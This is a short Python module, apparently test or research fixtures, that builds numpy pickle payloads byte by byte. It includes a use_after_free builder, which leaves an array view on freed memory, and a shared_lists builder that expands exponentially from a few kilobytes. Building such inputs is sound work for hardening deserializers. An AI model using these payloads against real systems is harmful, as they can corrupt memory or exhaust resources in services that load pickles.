"""Pickles of numpy arrays by hand: what a hostile file may hold, opcode by opcode."""


def text(value: str) -> bytes:
    """A str."""
    return b"X" + len(value.encode()).to_bytes(4, "little") + value.encode()


def raw(value: bytes) -> bytes:
    """A bytes."""
    return b"B" + len(value).to_bytes(4, "little") + value


def number(value: int) -> bytes:
    """An int of 32 bits."""
    return b"J" + value.to_bytes(4, "little", signed=True)


def named(module: str, name: str) -> bytes:
    """A global."""
    return text(module) + text(name) + b"\x93"


def dtype(code: str, order: str = "|") -> bytes:
    """A dtype."""
    made = named("numpy", "dtype") + text(code) + b"\x89\x88\x87R"
    return made + b"(K\x03" + text(order) + b"NNN" + 2 * number(-1) + b"K\x00tb"


def state(data: bytes, code: str = "u1", order: str = "|") -> bytes:
    """What fills a flat array."""
    count = len(data) // int(code[1:])
    return b"(K\x01" + number(count) + b"\x85" + dtype(code, order) + b"\x89" + raw(data) + b"t"


# An array that is not filled yet: BUILD with a state fills it.
EMPTY = (
    named("numpy._core.multiarray", "_reconstruct")
    + named("numpy", "ndarray")
    + b"K\x00\x85"
    + text("b")
    + b"\x87R"
)


def view(data: bytes, size: int) -> bytes:
    """An array by `_frombuffer` of what the opcodes `data` leave on the stack."""
    function = named("numpy._core.numeric", "_frombuffer")
    return function + b"(" + data + dtype("u1") + number(size) + b"\x85" + text("C") + b"tR"


def use_after_free(size: int, code: str = "u2", order: str = ">") -> bytes:
    """A view of an array that is then filled anew: once it freed the memory under the view."""
    array = EMPTY + state(bytes(size), code, order) + b"bq\x000"
    again = b"h\x00" + state(bytes(2), code, order) + b"b0"
    data = array + view(b"h\x00", size) + b"q\x010" + again
    return b"\x80\x04" + data + b"}" + text("data") + b"h\x01s."


def shared_lists(depth: int, opener: bytes = b"]", pair: bytes = b"(h\x00h\x00e") -> bytes:
    """A list of twice the same list of twice the same list ...: 2**depth items in a few kB."""
    step = opener + pair + b"q\x000"
    return opener + b"q\x000" + step * depth + b"h\x00"
